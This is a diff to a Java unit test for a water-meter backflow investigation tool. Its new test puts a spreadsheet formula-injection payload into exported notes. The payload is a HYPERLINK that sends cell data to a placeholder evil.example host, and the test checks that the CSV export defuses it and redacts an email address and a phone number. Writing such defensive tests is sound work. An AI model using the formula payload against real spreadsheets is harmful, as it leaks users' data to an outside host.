@@ -87,7 +87,7 @@ class InvestigationToolsTest {
     }
 
     @Test
-    void backflowWithOtherAlertsOrPressureEventsInTheZoneSuggestsADistributionSystemCause() {
+    void backflowAtOtherMetersOrPressureEventsInTheZoneSuggestADistributionSystemCause() {
         LikelyCauses likely = new LikelyCauses(CAUSES.without("OPERATIONAL_CHANGE"));
 
         List<LikelyCause> suggested = likely.suggest(
@@ -95,7 +95,8 @@ class InvestigationToolsTest {
                 new EvidenceFacts(Set.of(AlarmCode.REVERSE_FLOW), false, false, 3, 1, false));
 
         assertThat(suggested).extracting(c -> c.cause().code()).containsExactly("SYSTEM_ACTIVITY");
-        assertThat(suggested.getFirst().reasons().getFirst().why()).contains("3 other alert(s)");
+        assertThat(suggested.getFirst().reasons().getFirst().why())
+                .isEqualTo("3 other meters with backflow alerts and 1 pressure alert in zone Z1");
         assertThat(likely.suggest(Alerts.alert(AlertType.BACKFLOW), EvidenceFacts.none()))
                 .isEmpty();
     }
@@ -160,6 +161,28 @@ class InvestigationToolsTest {
                 .isEqualTo(
                         "i1,2024-06-02T10:00:00Z,M1 (Z1),BACKFLOW,jean,2024-06-02T10:01:00Z,"
                                 + "2024-06-02T10:15:00Z,Invalid alert: EQUIPMENT_ISSUE (SENSOR_MALFUNCTION),\"Meter replaced, see WO \"\"AM 1\"\"\"");
+    }
+
+    @Test
+    void exportedNotesCannotRunAsASpreadsheetFormulaAndCarryNoEmailOrPhoneNumber() {
+        Alert alert = Alerts.alert(AlertType.BACKFLOW);
+        Instant t = alert.time();
+        Investigation i = Investigation.open("i2", InvestigatedAlert.of(alert), t)
+                .acknowledge("jean", t)
+                .dataReviewed(t)
+                .close(
+                        CAUSES.require("SENSOR_MALFUNCTION"),
+                        "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"details\") call ada@example.org or 0151 496 0123",
+                        "jean",
+                        t.plus(Duration.ofMinutes(5)));
+
+        String row = InvestigationRecord.of(i).csvRow();
+
+        assertThat(row)
+                .endsWith(
+                        ",\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"details\"\") call [email] or [phone]\"")
+                .doesNotContain("ada@example.org")
+                .doesNotContain("496 0123");
     }
 
     private static Investigation closed(Alert alert, String id, Duration delay, Duration end, String cause) {
